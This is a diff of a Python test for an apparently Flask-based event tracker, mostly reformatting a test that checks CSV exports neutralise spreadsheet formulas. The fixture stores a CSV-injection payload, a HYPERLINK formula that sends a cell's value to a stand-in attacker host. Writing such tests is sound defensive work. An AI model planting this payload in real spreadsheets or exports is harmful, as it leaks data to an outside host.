@@ -35,21 +35,32 @@ def test_an_edit_or_delete_changes_the_etag(loaded_app):
 def test_formula_in_a_source_title_is_neutralised_in_every_csv(loaded_app):
     from tracker.db.models import Citation, Source
 
-
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     with loaded_app.app_context():
-        other = db.session.scalars(select(Event).where(
-            Event.slug == "amazon-announces-rekognition-police-moratorium")).one()
+        other = db.session.scalars(
+            select(Event).where(Event.slug == "amazon-announces-rekognition-police-moratorium")
+        ).one()
         source = Source(slug="evil-source", kind="news_article", title=evil, url="https://evil.example/")
-        event = Event(slug="quarantined-event", date=other.date, date_precision="day",
-                      certainty="verified", kind="report", actor=other.actor,
-                      title="An event documented only by the evil source")
+        event = Event(
+            slug="quarantined-event",
+            date=other.date,
+            date_precision="day",
+            certainty="verified",
+            kind="report",
+            actor=other.actor,
+            title="An event documented only by the evil source",
+        )
         event.citations.append(Citation(source=source, role="mention"))
         db.session.add_all([source, event])
         db.session.commit()
     client = loaded_app.test_client()
-    for url in ("/sources.csv", "/sources.csv?q=HYPERLINK", "/events.csv?q=documented+evil",
-                "/events.csv?bom=1", "/sources.csv?kind=news_article"):
+    for url in (
+        "/sources.csv",
+        "/sources.csv?q=HYPERLINK",
+        "/events.csv?q=documented+evil",
+        "/events.csv?bom=1",
+        "/sources.csv?kind=news_article",
+    ):
         text = client.get(url).get_data(as_text=True)
         assert "HYPERLINK" in text, url
         for line in text.splitlines():
